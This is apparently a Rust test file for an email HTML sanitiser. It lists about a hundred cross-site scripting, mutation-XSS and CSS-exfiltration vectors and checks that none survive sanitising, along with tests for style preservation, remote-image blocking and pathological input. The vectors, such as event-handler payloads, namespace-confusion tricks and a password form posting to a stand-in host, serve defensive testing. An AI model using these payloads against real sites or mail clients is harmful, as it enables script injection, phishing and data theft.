use super::*;

fn safe(html: &str) -> String {
    sanitise(html, &HashMap::new(), None).html
}

/// Vectors of script, mutation and request. None may leave anything that a browser would run or fetch.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onload=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"></svg>",
    "<svg><image href=\"https://x.example/track.png\"></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//x.example/phish\">x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=https://x.example/><input name=password type=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</option></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://x.example/v.mp4 onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=https://x.example/a.mp3 autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=https://x.example/\">",
    "<base href=\"https://x.example/\"><a href=\"/x\">x</a>",
    "<link rel=stylesheet href=https://x.example/x.css>",
    "<link rel=dns-prefetch href=//x.example>",
    "<style>@import url(https://x.example/x.css);</style>",
    "<style>input[value^=a]{background:url(https://x.example/a)}</style>",
    "<style>@font-face{font-family:x;src:url(https://x.example/f)}</style>",
    "<div style=\"background:url(https://x.example/t.png)\">x</div>",
    "<div style=\"background-image:url(&quot;https://x.example/t.png&quot;)\">x</div>",
    "<div style=\"background:\\75rl(https://x.example/t.png)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(https://x.example/x.xml#x)\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"list-style-image:url(https://x.example/t.png)\">x</div>",
    "<table background=https://x.example/t.png><tr><td background=https://x.example/t.png>x</td></tr></table>",
    "<body background=https://x.example/t.png>",
    "<img src=https://x.example/t.png>",
    "<img srcset=\"https://x.example/t.png 1x\">",
    "<img src=\"x\" srcset=\"https://x.example/t.png\" sizes=x>",
    "<img lowsrc=https://x.example/t.png dynsrc=https://x.example/t.png>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=//x.example/t.png>",
    "<img src=\"jav&#x09;ascript:alert(1);\">",
    "<picture><source srcset=https://x.example/t.png></picture>",
    "<input type=image src=https://x.example/t.png>",
    "<x onclick=alert(1)>x</x>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href=https://x.example ping=https://x.example/ping>x</a>",
    "<div id=app class=modal onclick=alert(1)>x</div>",
    "<a name=constructor id=__proto__>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p lang='\"onmouseover=alert(1) x=\"'>x</p>",
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=https://x.example></portal>",
    "<a href='mailto:a@b?subject=x' onclick=alert(1)>x</a>",
    "<table><td><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<p><svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=/files/1>",
    "<a href=/logout>x</a>",
    "<a href=\"?delete=1\">x</a>",
    "<a href=\"#top\">x</a>",
];

/// Every element and attribute of the result, read by an independent reader.
fn is_harmless(html: &str) -> bool {
    use crate::email::html::tokens::{Attributes, Token, Tokens};
    Tokens::of(html).all(|token| {
        let Token::Start(name, attributes) = token else { return true };
        let known = TAGS.split_ascii_whitespace().any(|tag| tag == name);
        known
            && Attributes { rest: attributes }.all(|(name, value)| {
                let value = value.to_ascii_lowercase();
                match name {
                    "href" => ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme)),
                    "src" => value.starts_with("data:image/png"),
                    "style" => !value.contains("url") && !value.contains('\\') && !value.contains("position"),
                    name => {
                        !name.starts_with("on")
                            && !matches!(name, "id" | "class" | "name" | "srcset" | "background" | "ping")
                    }
                }
            })
    })
}

#[test]
fn no_vector_runs_or_fetches() {
    assert!(VECTORS.len() >= 60);
    for vector in VECTORS {
        let once = safe(vector);
        assert!(is_harmless(&once), "{vector}\n  → {once}");
        // Parsed again, as by a browser, it does not turn into something else.
        let twice = safe(&once.replace("data-remote-src=", "src="));
        let marks = |html: &str| html.replace(" rel=\"noopener noreferrer\"", "").replace(" target=\"_blank\"", "");
        assert_eq!(marks(&once), marks(&twice), "{vector}");
    }
}

#[test]
fn a_letter_keeps_its_looks() {
    let html = "<div style=\"color:#333;position:absolute\"><p align=center>Hi <b>you</b></p><a href=\"https://shop.example/?a=1&amp;b=2\">x</a></div>";

    assert_eq!(
        safe(html),
        "<div style=\"color:#333\"><p align=\"center\">Hi <b>you</b></p>\
         <a href=\"https://shop.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a></div>"
    );
}

#[test]
fn remote_pictures_wait_and_pictures_of_the_mail_are_mapped() {
    let html = "<img src=\"https://x.example/a.png\"><img src=\"cid:logo@x\"><img src=\"cid:lost\">";
    let urls = HashMap::from([("logo@x".to_owned(), "/files/1".to_owned())]);

    let waiting = sanitise(html, &urls, None);
    let ours = |address: &str| address.starts_with("https://x.").then(|| "/files/remote/1".to_owned());
    let shown = sanitise(html, &urls, Some(std::sync::Arc::new(ours)));

    assert_eq!(waiting.html, "<img data-remote-src=\"https://x.example/a.png\"><img src=\"/files/1\"><img>");
    assert_eq!(waiting.blocked_images, 1);
    assert_eq!(shown.html, "<img src=\"/files/remote/1\"><img src=\"/files/1\"><img>");
    assert_eq!(shown.blocked_images, 0);
}

#[test]
fn tangled_documents_are_shown_as_text_at_once() {
    let deep = "<div>".repeat(100_000) + "x";
    let fonts: Vec<String> = (0..2000).map(|at| format!("<font size={at}>")).collect();
    let formatted = [fonts.concat(), "<p>x".repeat(20_000)].concat();
    let crowded = format!("<p {}>x", "a=1 ".repeat(100_000));
    let wide = "<b>x</b>".repeat(200_000);
    let tables = "<table><tr><td>".repeat(20_000);
    for html in [deep, formatted, crowded, wide, tables] {
        let started = std::time::Instant::now();
        let shown = sanitise(&html, &HashMap::new(), None);

        assert!(shown.flattened);
        assert!(started.elapsed().as_millis() < 3000, "{:?}", started.elapsed());
    }
}

#[test]
fn an_ordinary_newsletter_is_not_flattened() {
    let row = "<tr><td style=\"padding:4px\"><p>Towar <b>dobry</b><br><a href=\"https://s.example/1\"><img src=\"https://s.example/1.png\"></a></td></tr>";
    let html = format!("<html><body><table>{}</table></body></html>", row.repeat(1500));

    let shown = sanitise(&html, &HashMap::new(), None);

    assert!(!shown.flattened);
    assert_eq!(shown.blocked_images, 1500);
}
